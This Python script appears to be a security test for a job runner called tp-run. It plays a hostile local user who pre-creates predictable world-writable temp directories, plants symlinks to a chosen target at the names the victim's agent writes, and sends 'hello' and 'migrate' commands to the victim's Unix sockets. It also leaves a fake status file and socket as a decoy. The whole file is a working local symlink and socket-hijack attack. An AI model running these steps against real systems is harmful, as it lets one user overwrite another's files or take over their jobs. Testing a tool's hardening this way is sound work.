"""Another local user's attempts on a tp-run job's control files (run it as that user).

    intruder.py prepare VICTIM_UID TARGET
        Before the job: pre-create, in the temp dir, the victim's control directory
        names that can be predicted (the old fixed ``tp-run-<uid>``, and one of the
        ``tp-run-<uid>-*`` pattern), open to everyone.
    intruder.py attack VICTIM_UID TARGET AGENT_PID
        While the job runs: look into every ``tp-run-*`` entry of the temp dir; in those
        it can write, plant links to TARGET at the names the agent (AGENT_PID) would
        write; beside every socket seen, links at the status file's names; connect to
        every socket and send a ``hello`` for slot 0 and a ``migrate`` of rank 1; in the
        look-alike directory, leave a fake status and socket for AGENT_PID (what a
        careless ``tp-run migrate`` would talk to).

Prints a JSON report: what it could list, plant and connect to.
"""

from __future__ import annotations

import glob
import json
import os
import socket
import sys
import tempfile

TMP = tempfile.gettempdir()


def _link(target: str, path: str, report: dict) -> None:
    try:
        os.symlink(target, path)
        report["planted"].append(path)
    except OSError as e:
        report["refused"].append(f"{path}: {e.strerror}")


def prepare(uid: str, target: str) -> dict:
    made = []
    for name in (f"tp-run-{uid}", f"tp-run-{uid}-intruder"):
        path = os.path.join(TMP, name)
        os.mkdir(path)
        os.chmod(path, 0o777)
        made.append(path)
    return {"made": made}


def attack(uid: str, target: str, agent_pid: str) -> dict:
    report: dict = {"listed": {}, "planted": [], "refused": [], "replies": {}}
    for entry in sorted(glob.glob(os.path.join(TMP, "tp-run-*"))):
        try:
            names = os.listdir(entry)
        except OSError as e:
            report["listed"][entry] = e.strerror
            continue
        report["listed"][entry] = sorted(names)
        if os.access(entry, os.W_OK):  # the agent's own names, its pid being known now
            for suffix in (".sock.json", ".sock.json.tmp", ".progress"):
                if not os.path.lexists(os.path.join(entry, agent_pid + suffix)):
                    _link(target, os.path.join(entry, agent_pid + suffix), report)
        for name in names:
            if not name.endswith(".sock"):
                continue
            sock_path = os.path.join(entry, name)
            for suffix in (".json", ".json.tmp"):
                if os.path.lexists(sock_path + suffix):
                    try:
                        os.unlink(sock_path + suffix)
                    except OSError as e:
                        report["refused"].append(f"unlink {sock_path + suffix}: {e.strerror}")
                        continue
                _link(target, sock_path + suffix, report)
            report["replies"][sock_path] = _talk(sock_path)
        if entry.endswith(f"tp-run-{uid}-intruder"):
            fake = os.path.join(entry, f"{agent_pid}.sock")
            os.unlink(fake + ".json")  # its own planted link: a fake status instead
            with open(fake + ".json", "w") as f:
                json.dump({"run_id": "none", "pid": int(agent_pid), "generation": 0,
                           "ranks": {"0": 1, "1": 1}, "parked_spares": [1]}, f)
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(fake)  # never served: a client that trusts it fails
            os.chmod(fake, 0o777)
            report["fake"] = fake
    return report


def _talk(path: str) -> str:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    try:
        s.connect(path)
        s.sendall(b'{"op":"hello","slot":0,"pid":1}\n{"op":"migrate","rank":1}\n')
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return data.decode(errors="replace")
            data += chunk
    except OSError as e:
        return f"error: {e.strerror or e}"
    finally:
        s.close()


if __name__ == "__main__":
    cmd, uid, target, *rest = sys.argv[1:]
    result = prepare(uid, target) if cmd == "prepare" else attack(uid, target, *rest)
    print(json.dumps(result))
